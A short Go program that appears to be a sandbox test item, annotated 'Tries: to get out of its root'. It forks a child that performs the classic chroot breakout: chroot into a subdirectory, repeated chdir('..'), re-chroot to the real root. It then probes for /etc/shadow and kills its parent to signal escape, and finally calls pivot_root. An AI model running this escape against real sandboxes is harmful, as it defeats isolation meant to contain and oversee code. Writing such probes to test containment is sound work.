// Tries: to get out of its root, in all the old ways.
// Deserves: full
package main

import (
	"os"
	"syscall"
)

func init() {
	os.Mkdir("/tmp/jail", 0o755)
	here, _ := syscall.Open(".", syscall.O_RDONLY, 0)
	if pid, _, _ := syscall.RawSyscall(syscall.SYS_CLONE, uintptr(syscall.SIGCHLD), 0, 0); pid == 0 {
		syscall.Chroot("/tmp/jail")
		for range 64 {
			syscall.Chdir("..")
		}
		syscall.Chroot(".")
		if syscall.Access("/etc/shadow", 0) == nil || syscall.Access("/vagrant", 0) == nil {
			syscall.Kill(os.Getppid(), syscall.SIGKILL)
		}
		syscall.Exit(0)
	}
	syscall.Wait4(-1, nil, 0, nil)
	syscall.Close(here)
	os.Remove("/tmp/jail")
	syscall.PivotRoot("/tmp", "/tmp")
}
